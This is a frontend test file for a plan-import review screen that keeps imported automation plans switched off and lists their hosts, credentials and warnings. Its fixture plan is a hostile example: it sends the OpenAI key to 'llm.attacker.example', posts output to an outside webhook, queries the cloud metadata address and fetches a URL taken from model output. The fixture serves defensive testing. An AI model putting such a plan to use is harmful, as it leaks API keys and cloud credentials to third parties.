// An imported plan arrives off, whatever its file says, with a review of what it
// would do once on: the hosts it contacts, which key goes where, what it writes,
// its warnings. "Turn on" is the deliberate act; "Keep it off" leaves it a draft.
import { describe, expect, it } from "vitest";
import { fireEvent, render, waitFor } from "@testing-library/svelte";
import PlansList from "../screens/PlansList.svelte";
import ConfirmDialog from "../components/ConfirmDialog.svelte";
import type { PlanFile, PlanReview, Value } from "../bindings";
import { commands } from "../bindings";
import { call } from "../lib/api";
import { allByTestId, byTestId, createMockBackend, waitForCall } from "./helpers";

/** A shared file: on, every morning, the OpenAI key to someone else's server, a post, the metadata address. */
const SHARED: Value = {
  name: "Shared digest",
  status: "active",
  trigger: { type: "cron", cron_expression: "0 9 * * *" },
  steps: [
    { id: "ask", provider: "openai", action: "chat_completion", params: { prompt: "Summarise the news", base_url: "https://llm.attacker.example/v1" } },
    { provider: "webhook", action: "post_request", params: { url: "https://hooks.example.org/in", payload: { text: "${steps.ask.output}" } } },
    { provider: "http", action: "request", params: { method: "GET", url: "http://169.254.169.254/latest/meta-data/" } },
    { provider: "http", action: "request", params: { method: "GET", url: "${steps.ask.output}" } },
  ],
};

function docOf(backend: ReturnType<typeof createMockBackend>, name: string): PlanFile {
  const p = backend.state.plans.find((x) => x.versions[x.versions.length - 1].plan.name === name);
  if (!p) throw new Error(`no plan ${name}`);
  return p.versions[p.versions.length - 1].plan;
}

async function importShared(body: Value = SHARED) {
  const backend = createMockBackend();
  backend.state.credentials.push({ provider: "openai", field: "api_key", updated_at: "2026-11-20T08:00:00Z" });
  backend.install();
  render(ConfirmDialog);
  const { container } = render(PlansList);
  const input = await waitFor(() => byTestId<HTMLInputElement>(container, "import-file-input"));
  const pick = async (b: Value) => {
    const file = new File([JSON.stringify(b)], "shared.json", { type: "application/json" });
    Object.defineProperty(input, "files", { value: [file], configurable: true });
    await fireEvent.change(input);
  };
  await pick(body);
  const review = await waitFor(() => {
    const r = byTestId(container, "import-review");
    byTestId(r, "import-review-activate");
    return r;
  });
  return { backend, container, review, pick };
}

describe("importing a plan file", () => {
  it("stores a file that says active as a draft, without createPlan or updatePlan", async () => {
    const { backend, container } = await importShared();
    const args = await waitForCall(backend.state.calls, "import_plan_text");
    expect(JSON.parse(String(args.text))).toMatchObject({ status: "active" });
    expect(backend.state.calls.some((c) => c.cmd === "create_plan" || c.cmd === "update_plan")).toBe(false);
    expect(docOf(backend, "Shared digest").status).toBe("draft");
    // The list shows it off, with no next run.
    const row = await waitFor(() => byTestId(container, "plan-row"));
    expect(row.getAttribute("data-on")).toBe("false");
    expect(row.querySelector('[data-testid="plan-next"]')).toBeNull();
  });

  it("reviews it: the foreign host, the key sent there, the write, the metadata warning, the schedule", async () => {
    const { backend, review } = await importShared();
    await waitForCall(backend.state.calls, "review_stored_plan");
    expect(byTestId(review, "import-review-status").textContent).toContain("off");
    expect(byTestId(review, "import-review-status").textContent).toContain("The file asked to be on");
    expect(byTestId(review, "import-review-schedule").textContent).toMatch(/On a schedule: At 09:00/);

    const hosts = allByTestId(review, "import-review-host");
    expect(hosts.map((h) => h.getAttribute("data-host"))).toEqual(["llm.attacker.example", "hooks.example.org", "169.254.169.254"]);
    expect(hosts[0].textContent).toContain("https://llm.attacker.example");
    expect(hosts[0].textContent).toContain("OpenAI key");
    expect(hosts[0].getAttribute("data-class")).toBe("public");
    expect(hosts[2].getAttribute("data-class")).toBe("metadata");
    expect(byTestId(hosts[2], "import-review-host-class").textContent).toBe("a cloud metadata service");

    const creds = allByTestId(review, "import-review-credential");
    expect(creds).toHaveLength(1);
    expect(creds[0].getAttribute("data-credential")).toBe("openai/api_key");
    expect(creds[0].textContent).toContain("https://llm.attacker.example");
    expect(creds[0].textContent).toContain("would really be sent");

    const writes = allByTestId(review, "import-review-write");
    expect(writes).toHaveLength(1);
    expect(writes[0].textContent).toContain("Step 2");
    expect(writes[0].textContent).toContain("https://hooks.example.org");

    // The address step 4 takes from data at run time.
    expect(byTestId(review, "import-review-dynamic").textContent).toContain("Step 4");

    const warnings = allByTestId(review, "import-review-warning");
    const metadata = warnings.find((w) => w.getAttribute("data-path") === "steps[2].params.url");
    expect(metadata?.textContent).toContain("Step 3, its address:");
    expect(metadata?.textContent).toContain("cloud metadata service");
    // Plain words, no schema wording.
    expect(review.textContent).not.toMatch(/schema|anyOf|\$ref|non-empty/);
  });

  it("“Turn on” activates it", async () => {
    const { backend, container, review } = await importShared();
    expect(backend.state.calls.some((c) => c.cmd === "activate_plan" || c.cmd === "set_plan_on")).toBe(false);
    await fireEvent.click(byTestId(review, "import-review-activate"));
    const args = await waitForCall(backend.state.calls, "activate_plan");
    expect(args.id).toBe(backend.state.plans[0].id);
    expect(docOf(backend, "Shared digest").status).toBe("active");
    await waitFor(() => expect(container.querySelector('[data-testid="import-review"]')).toBeNull());
    await waitFor(() => expect(byTestId(container, "plan-row").getAttribute("data-on")).toBe("true"));
  });

  it("“Keep it off” leaves it a draft", async () => {
    const { backend, container, review } = await importShared();
    await fireEvent.click(byTestId(review, "import-review-keep-off"));
    await waitFor(() => expect(container.querySelector('[data-testid="import-review"]')).toBeNull());
    expect(backend.state.calls.some((c) => c.cmd === "activate_plan" || c.cmd === "set_plan_on")).toBe(false);
    expect(docOf(backend, "Shared digest").status).toBe("draft");
    expect(byTestId(container, "plan-row").getAttribute("data-on")).toBe("false");
  });

  it("replacing an active plan with a file stores the new version off, and reviews it", async () => {
    const { backend, container, review, pick } = await importShared();
    await fireEvent.click(byTestId(review, "import-review-activate"));
    await waitFor(() => expect(docOf(backend, "Shared digest").status).toBe("active"));
    await pick(SHARED);
    const dialog = await waitFor(() => byTestId(document.body, "confirm-dialog"));
    await fireEvent.click(byTestId(dialog, "confirm-import-replace"));
    await waitFor(() => expect(backend.state.plans[0].versions).toHaveLength(3));
    expect(docOf(backend, "Shared digest").status).toBe("draft");
    expect(backend.state.calls.filter((c) => c.cmd === "import_plan_text")).toHaveLength(2);
    const again = await waitFor(() => byTestId(container, "import-review"));
    await waitFor(() => byTestId(again, "import-review-activate"));
    expect(byTestId(again, "import-review-status").textContent).toContain("The new version is off");
  });
});

describe("the fake's review", () => {
  it("lists a provider's default host, and a private address with its warning", async () => {
    const backend = createMockBackend();
    backend.install();
    const plan = {
      name: "Local",
      steps: [
        { provider: "openai", action: "chat_completion", params: { prompt: "hi" } },
        { provider: "http", action: "request", params: { method: "POST", url: "http://192.168.1.20:8080/x" } },
      ],
    } as unknown as PlanFile;
    const review: PlanReview = await call(commands.reviewPlan(plan));
    expect(review.hosts.map((h) => [h.origin, h.class, h.writes])).toEqual([
      ["https://api.openai.com", "public", false],
      ["http://192.168.1.20:8080", "private", true],
    ]);
    expect(review.credentials).toEqual([{ provider: "openai", field: "api_key", is_set: false, sent_to: ["https://api.openai.com"] }]);
    expect(review.writes.map((w) => w.step)).toEqual([1]);
    expect(review.warnings).toEqual([expect.objectContaining({ path: "steps[1].params.url", kind: "private_target", severity: "warning" })]);
    expect(review.schedule).toBeNull();
  });
});
